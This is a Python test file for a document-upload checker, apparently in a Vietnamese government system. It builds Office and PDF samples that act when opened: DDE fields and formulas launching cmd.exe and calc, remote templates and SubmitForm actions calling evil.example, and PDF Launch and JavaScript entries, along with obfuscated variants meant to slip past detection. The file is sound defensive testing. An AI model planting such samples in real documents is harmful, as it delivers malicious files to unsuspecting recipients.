"""Files that do something by themselves when they are opened: refused, or kept with a warning."""

import io
import zlib

import pytest
from django.core.exceptions import ValidationError
from docx import Document
from openpyxl import Workbook

from documents import services
from documents.files import Harm, receive
from tests.factories import PlannedDocumentFactory
from tests.test_uploads import docx, packed, sent, xlsx

RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORDS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
TYPES = '<?xml version="1.0"?><Types xmlns="x">{}</Types>'


def relation(kind, target, *, outside=True):
    mode = ' TargetMode="External"' if outside else ""
    return (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        f'2006/relationships"><Relationship Id="r1" Type="{RELATIONS}/{kind}" '
        f'Target="{target}"{mode}/></Relationships>'
    )


def body(inner):
    return f'<w:document xmlns:w="{WORDS}"><w:body><w:p>{inner}</w:p></w:body></w:document>'


def word(*more, inner="", types=""):
    parts = {"[Content_Types].xml": TYPES.format(types), "word/document.xml": body(inner)}
    return packed([*(parts | dict(more)).items()])


def excel(*more):
    parts = {"[Content_Types].xml": TYPES.format(""), "xl/workbook.xml": "<workbook/>"}
    return packed([*(parts | dict(more)).items()])


def pdf(objects=b"", *, trailer=b""):
    return b"%PDF-1.7\n" + objects + b"\ntrailer <<" + trailer + b">>\n%%EOF\n"


def packed_objects(objects, head=b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"):
    content = zlib.compress(b"1 0 " + objects)
    return b"9 0 obj <<%s>>\nstream\n%s\nendstream endobj" % (head, content)


def instructions(*pieces):
    return "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)


def sheet(formula, element="f"):
    content = f'<worksheet xmlns="{SHEET}"><{element}>{formula}</{element}></worksheet>'
    return excel(("xl/worksheets/sheet1.xml", content))


def opening(action, *objects):
    """A PDF that does this when it is opened."""
    return pdf(
        b"1 0 obj <</Type /Catalog /OpenAction %s>> endobj\n" % action + b"\n".join(objects)
    )


LINK = b"<</S /URI /URI (https://evil.example)>>"
CODES = "QUOTE 68 68 69 65 85 84 79"
DDE = 'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'
SCRIPT = b"1 0 obj <</S /JavaScript /JS (app.alert\\(1\\))>> endobj"
UTF16 = f'<?xml version="1.0" encoding="utf-16"?>{body(instructions("DDE ", DDE))}'
# What is found, in a file of this name.
HARMFUL = {
    "template of the network": (
        Harm.TEMPLATE,
        "a.docx",
        word(
            (
                "word/_rels/settings.xml.rels",
                relation("attachedTemplate", "https://evil.example/a.dotm"),
            )
        ),
    ),
    "template of a shared folder": (
        Harm.TEMPLATE,
        "a.docx",
        word(
            (
                "word/_rels/settings.xml.rels",
                relation("attachedTemplate", "file:///\\\\host\\a.dotm"),
            )
        ),
    ),
    "object": (
        Harm.OBJECTS,
        "a.docx",
        word(
            (
                "word/_rels/document.xml.rels",
                relation("oleObject", "embeddings/oleObject1.bin", outside=False),
            )
        ),
    ),
    "object of an unknown part": (
        Harm.OBJECTS,
        "a.docx",
        word(("word/embeddings/thing.bin", b"\xd0\xcf\x11\xe0")),
    ),
    "object fetched from the network": (
        Harm.OBJECTS,
        "a.docx",
        word(
            (
                "word/_rels/document.xml.rels",
                relation("oleObject", "mhtml:https://evil.example/a!x"),
            )
        ),
    ),
    "control": (
        Harm.OBJECTS,
        "a.xlsx",
        excel(
            (
                "xl/worksheets/_rels/sheet1.xml.rels",
                relation("control", "../activeX/activeX1.xml", outside=False),
            )
        ),
    ),
    "field": (Harm.DDE, "a.docx", word(inner=instructions(f"DDEAUTO {DDE}"))),
    "field cut into pieces": (
        Harm.DDE,
        "a.docx",
        word(inner=instructions(" D", "DEAU", "TO x")),
    ),
    "simple field": (Harm.DDE, "a.docx", word(inner='<w:fldSimple w:instr=" DDE cmd x"/>')),
    "field in letters of two bytes": (
        Harm.DDE,
        "a.docx",
        word(("word/document.xml", UTF16.encode("utf-16"))),
    ),
    "field in a note": (
        Harm.DDE,
        "a.docx",
        word(("word/endnotes.xml", body(instructions("dde x")))),
    ),
    "link of a sheet": (
        Harm.DDE,
        "a.xlsx",
        excel(
            (
                "xl/externalLinks/externalLink1.xml",
                f'<externalLink xmlns="{SHEET}"><ddeLink ddeService="cmd"/></externalLink>',
            )
        ),
    ),
    "formula": (
        Harm.DDE,
        "a.xlsx",
        excel(
            (
                "xl/worksheets/sheet9.xml",
                f"<worksheet xmlns=\"{SHEET}\"><f>cmd|'/c calc'!A1</f></worksheet>",
            )
        ),
    ),
    "macros under another name": (
        Harm.MACROS,
        "a.docx",
        word(types='<Override ContentType="application/vnd.ms-office.vbaProject"/>'),
    ),
    "old macros of a sheet": (
        Harm.MACROS,
        "a.xlsx",
        excel(("xl/macrosheets/sheet1.xml", "<xm:macrosheet xmlns:xm='x'/>")),
    ),
    "script": (Harm.SCRIPT, "a.pdf", pdf(SCRIPT)),
    "script in other letters": (
        Harm.SCRIPT,
        "a.pdf",
        pdf(SCRIPT.replace(b"/JavaScript", b"/J#61va#53cript").replace(b"/JS", b"/#4aS")),
    ),
    "packed script": (Harm.SCRIPT, "a.pdf", pdf(packed_objects(SCRIPT))),
    "script packed by another name": (
        Harm.SCRIPT,
        "a.pdf",
        pdf(packed_objects(SCRIPT, head=b"/Type /Obj#53tm /Filter [/Fl]")),
    ),
    "script behind a false stream": (Harm.SCRIPT, "a.pdf", pdf(b"% stream\n" + SCRIPT)),
    "objects that cannot be unpacked": (
        Harm.PROTECTED,
        "a.pdf",
        pdf(b"9 0 obj <</Type /ObjStm>>\nstream\n\x81\x92\x93\nendstream endobj"),
    ),
    "start of a program": (
        Harm.LAUNCH,
        "a.pdf",
        pdf(b"1 0 obj <</S /Launch /F (cmd.exe)>> endobj"),
    ),
    "file inside": (
        Harm.EMBEDDED,
        "a.pdf",
        pdf(b"1 0 obj <</Type /Filespec /EF <</F 2 0 R>>>> endobj"),
    ),
    **{
        f"by itself: {name}": (Harm.OPENING, "a.pdf", content)
        for name, content in {
            "form": opening(b"<</S/SubmitForm /F(https://evil.example)>>"),
            "import": opening(b"<</S/ImportData /F(a.fdf)>>"),
            "file of a share": opening(rb"<</S/GoToE /F(\\\\evil\\x)>>"),
            "place in a file of a share": opening(rb"<</S /GoToR /F(\\\\evil\\x) /D [0]>>"),
            "program": opening(b"<</S /Launch /F (a.exe)>>"),
            "address": opening(LINK),
            "address in other letters": opening(LINK.replace(b"/URI", b"/#55R#49")),
            "event of a page": pdf(b"3 0 obj <</Type /Page /AA<</O" + LINK + b">>>> endobj"),
            "sound": opening(b"<</S /Sound /Sound 9 0 R>>"),
            "film": opening(b"<</S /Rendition /OP 0>>"),
            "named": opening(b"7 0 R", b"7 0 obj " + LINK + b" endobj"),
            "named far off": opening(
                b"7" + b" " * 200 + b"0 R", b"7 0 obj " + LINK + b" endobj"
            ),
            "named event": pdf(
                b"3 0 obj <</AA 4 0 R>> endobj 4 0 obj <</O 5 0 R>> endobj 5 0 obj "
                + LINK
                + b" endobj"
            ),
            "packed": pdf(packed_objects(b"<</OpenAction" + LINK + b">>")),
            "named packed": opening(
                b"1 0 R", packed_objects(LINK, head=b"/Type /ObjStm /N 1 /First 4")
            ),
            "after another": opening(
                b"<</S /GoTo /D [2 0 R /Fit] /Next [7 0 R]>>", b"7 0 obj " + LINK + b" endobj"
            ),
            "after others": opening(
                b"<</S /GoTo /Next 6 0 R>>",
                b"6 0 obj [8 0 R 7 0 R] endobj",
                b"7 0 obj " + LINK + b" endobj",
            ),
            "kind that is named": opening(b"<</S 7 0 R>>", b"7 0 obj /URI endobj"),
            "after many blanks": opening(b" " * 5000 + LINK),
            "after zeros": opening(b"\0\0" + LINK),
            "after a comment": opening(b"%\n" + LINK),
            "after a false end": opening(b"<</T (>>>> endobj) /S /URI>>"),
            "after a strange name": opening(b"<</X\\<<>> /S /URI>>"),
            "after much": opening(b"<</T (" + b"x" * 5000 + b") /S /URI>>"),
        }.items()
    },
    **{
        f"formula {formula}": (Harm.DDE, "a.xlsx", sheet(formula, element))
        for formula, element in {
            "RTD(&quot;a.b&quot;,,1)": "f",
            "1+call (&quot;Kernel32&quot;,1)": "f",
            "C&#65;LL(1)": "f",
            "CA<![CDATA[LL]]>(1)": "f",
            "REGISTER.ID(&quot;a&quot;)": "definedName",
            "cmd|'/C calc'!A0": "formula1",
            "cmd|calc!A0": "f",
            "'c md'|'/C calc'!A0": "f",
        }.items()
    },
    "letters by their numbers": (Harm.DDE, "a.docx", word(inner=instructions(CODES, " cmd"))),
    "letters by numbers in pieces": (
        Harm.DDE,
        "a.docx",
        word(inner=instructions("QUOTE 6", "8 0x44", " ", "QUOTE &quot;69&quot;")),
    ),
    "last letter by its number": (
        Harm.DDE,
        "a.docx",
        word(inner=instructions("DD", "QUOTE 69")),
    ),
    "lock": (Harm.PROTECTED, "a.pdf", pdf(trailer=b"/Encrypt 5 0 R")),
}
WARNED_ABOUT = {
    "template of the own disk": (
        Harm.LINKS,
        "a.docx",
        word(
            (
                "word/_rels/settings.xml.rels",
                relation("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm"),
            )
        ),
    ),
    "picture of the network": (
        Harm.LINKS,
        "a.docx",
        word(("word/_rels/document.xml.rels", relation("image", "https://evil.example/a.png"))),
    ),
    "field that fetches": (
        Harm.LINKS,
        "a.docx",
        word(inner=instructions('INCLUDEPICTURE "https://evil.example/a.png"')),
    ),
    "field that fetches from a share": (
        Harm.LINKS,
        "a.docx",
        word(inner=instructions(r'INCLUDETEXT "\\\\evil\\a.docx"')),
    ),
    "formula that asks the network": (
        Harm.LINKS,
        "a.xlsx",
        sheet("_xlfn.FILTERXML(_xlfn.WEBSERVICE(&quot;https://evil.example&quot;),1)"),
    ),
    "picture by a formula": (Harm.LINKS, "a.xlsx", sheet("_xlfn.IMAGE(A1)")),
    "link to a place in another file": (
        Harm.LINKS,
        "a.pdf",
        pdf(b"5 0 obj <</Subtype /Link /A <</S /GoToR /F (b.pdf) /D [0]>>>> endobj"),
    ),
    "connections of which there are none": (
        Harm.CONNECTIONS,
        "a.xlsx",
        excel(("xl/connections.xml", "")),
    ),
    "cells of another workbook": (
        Harm.LINKS,
        "a.xlsx",
        excel(
            (
                "xl/externalLinks/_rels/externalLink1.xml.rels",
                relation("externalLinkPath", "file:///D:\\other.xlsx"),
            )
        ),
    ),
    "connection": (
        Harm.CONNECTIONS,
        "a.xlsx",
        excel(
            (
                "xl/_rels/workbook.xml.rels",
                relation("connections", "connections.xml", outside=False),
            )
        ),
    ),
    "query": (
        Harm.CONNECTIONS,
        "a.xlsx",
        excel(("customXml/item1.xml", '<DataMashup xmlns="x">AAAA</DataMashup>')),
    ),
}


def found_in(name, content):
    """What a file is refused for."""
    with pytest.raises(ValidationError) as refusal:
        receive(sent(name, content))
    return {error.code for error in refusal.value.error_list}


@pytest.mark.parametrize("case", HARMFUL)
def test_file_that_acts_by_itself_is_refused_and_says_what_to_do(case):
    harm, name, content = HARMFUL[case]

    assert harm.value in found_in(name, content)


@pytest.mark.parametrize("case", WARNED_ABOUT)
def test_file_that_fetches_is_kept_with_a_warning(case):
    harm, name, content = WARNED_ABOUT[case]

    assert receive(sent(name, content)).cautions == (harm,)


def test_policy_is_a_setting(settings):
    settings.FILES_WARNED_ABOUT = ["objects"]

    assert receive(sent(*HARMFUL["object"][1:])).cautions == (Harm.OBJECTS,)
    assert found_in(*WARNED_ABOUT["connection"][1:]) == {"connections"}


def test_part_with_a_document_type_is_refused():
    entity = f'<!DOCTYPE x [<!ENTITY a "DDE">]>{body(instructions("&a; x"))}'

    assert found_in("a.docx", word(("word/document.xml", entity))) == {"damaged"}


def ordinary_docx():
    document = Document()
    document.add_paragraph("Kế hoạch thực hiện Nghị quyết, xem DDE và LINK")
    document.add_table(2, 2).cell(0, 0).text = "Nội dung"
    document.part.relate_to("https://bentre.gov.vn", f"{RELATIONS}/hyperlink", is_external=True)
    file = io.BytesIO()
    document.save(file)
    return file.getvalue()


def ordinary_xlsx():
    book = Workbook()
    book.active["A1"] = "=SUM(B1:B9)"
    book.active["A2"] = "https://bentre.gov.vn"
    book.active["A2"].hyperlink = "https://bentre.gov.vn"
    file = io.BytesIO()
    book.save(file)
    return file.getvalue()


PAGES = zlib.compress(b"q BT /F1 12 Tf (12 /JS 3) Tj ET Q" * 50)
ORDINARY = {
    "a.docx": ordinary_docx(),
    "b.docx": docx(),
    "c.docx": word(inner=instructions(r" TOC \o 1-3 ", " PAGE ", ' HYPERLINK "https://a.vn" ')),
    "a.xlsx": ordinary_xlsx(),
    "b.xlsx": xlsx(),
    "a.pdf": pdf(
        b"1 0 obj <</Type /Catalog /OpenAction [2 0 R /Fit] /Names 3 0 R>> endobj\n"
        b"4 0 obj <</Length 9>>\nstream\n%s\nendstream endobj"
        % PAGES
        + b"\n5 0 obj <</A <</S /URI /URI (https://bentre.gov.vn)>>>> endobj"
    ),
    "jump and links.pdf": opening(
        b"5 0 R",
        b"5 0 obj <</S /GoTo /D [3 0 R /Fit]>> endobj",
        b"3 0 obj <</Type /Page /Annots [<</Subtype /Link /A 6 0 R>>]>> endobj",
        b"6 0 obj " + LINK + b" endobj",
    ),
    "jump beside links.pdf": opening(
        b"<</S /GoTo /D (a)>> /Lang (vi)", b"6 0 obj <</A" + LINK + b">> endobj"
    ),
    "jump packed with links.pdf": opening(
        b"1 0 R",
        b"9 0 obj <</Type /ObjStm /N 2 /First 9 /Filter /FlateDecode>>\nstream\n"
        + zlib.compress(b"1 0 2 20 <</S /GoTo /D (a)>><</A" + LINK + b">>")
        + b"\nendstream endobj",
    ),
    "texts.xlsx": sheet("&quot;a|b! CALL(1)&quot;&amp;HYPERLINK(A1)&amp;RECALL(1)"),
    "quote.docx": word(inner=instructions("QUOTE 72 73", " PAGE ")),
    "b.pdf": pdf(packed_objects(b"<</Type /Page>>")),
}


@pytest.mark.parametrize("name", ORDINARY)
def test_ordinary_file_is_kept_without_a_warning(name):
    assert receive(sent(name, ORDINARY[name])).cautions == ()


@pytest.mark.django_db
def test_warning_stands_beside_the_file_on_its_page(client, office):
    document = PlannedDocumentFactory()
    _harm, name, content = WARNED_ABOUT["cells of another workbook"]
    services.attach_file(item=document, file=sent(name, content), by=None)
    client.force_login(office)

    page = client.get(document.get_absolute_url())

    assert "Cẩn thận: tệp có liên kết" in page.text
